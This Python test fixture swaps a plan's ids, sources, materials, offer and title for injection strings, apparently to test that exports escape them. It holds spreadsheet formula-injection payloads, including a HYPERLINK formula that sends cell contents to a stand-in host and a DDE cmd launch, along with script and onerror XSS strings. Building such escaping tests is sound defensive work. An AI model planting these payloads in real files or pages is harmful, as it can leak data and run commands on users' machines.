"""The week with ids that a careless program would run."""

from __future__ import annotations

from dataclasses import replace

from models.brief import Brief
from models.plan import Charge, Plan
from models.price import Prices

ORDER = '=HYPERLINK("https://evil.example/?"&A1,"6063")'
SOURCE = "+cmd|' /C calc'!A0"
ALLOY = "<script>alert(1)</script>"
MATERIAL = "@SUM(1+1)*[red]&amp;"
OFFER = "https://evil.example"
TITLE = "-2+3 <img src=x onerror=alert(1)>"


def harmful(brief: Brief, plan: Plan) -> tuple[Brief, Plan]:
    """The first order, source and material, an offer and the title renamed to the above."""
    order, source = plan.charges[0].order_id, plan.charges[0].lines[1].source
    names = {order: ORDER, source: SOURCE, "OFFER-7": OFFER, plan.charges[0].alloy: ALLOY}

    def charge_of(charge: Charge) -> Charge:
        lines = tuple(
            line.model_copy(update={"source": names.get(line.source, line.source)})
            for line in charge.lines
        )
        update = {
            "order_id": names.get(charge.order_id, charge.order_id),
            "alloy": names.get(charge.alloy, charge.alloy),
            "lines": lines,
        }
        return charge.model_copy(update=update)

    sources = tuple(
        replace(s, source_id=names.get(s.source_id, s.source_id), material=MATERIAL)
        for s in brief.sources
    )
    orders = tuple(
        o.model_copy(update={"order_id": names.get(o.order_id, o.order_id)}) for o in brief.orders
    )
    settings = brief.settings.model_copy(update={"name": TITLE})
    purchases = (plan.purchases[0].model_copy(update={"offer_id": OFFER}),)
    leftovers = tuple(
        row.model_copy(update={"source": names.get(row.source, row.source)})
        for row in plan.leftovers
    )
    update = {
        "prices": _prices(plan, names),
        "charges": tuple(charge_of(charge) for charge in plan.charges),
        "purchases": purchases,
        "leftovers": leftovers,
    }
    renamed = replace(brief, settings=settings, sources=sources, orders=orders)
    return renamed, plan.model_copy(update=update)


def _prices(plan: Plan, names: dict[str, str]) -> Prices | None:
    """The prices of what is renamed."""
    if plan.prices is None:
        return None
    charges = tuple(
        one.model_copy(
            update={name: names.get(getattr(one, name), getattr(one, name))
                    for name in ("order_id", "alloy")}
        )
        for one in plan.prices.charges
    )  # fmt: skip
    sources = tuple(
        one.model_copy(update={"source": names.get(one.source, one.source)})
        for one in plan.prices.sources
    )
    return plan.prices.model_copy(update={"charges": charges, "sources": sources})
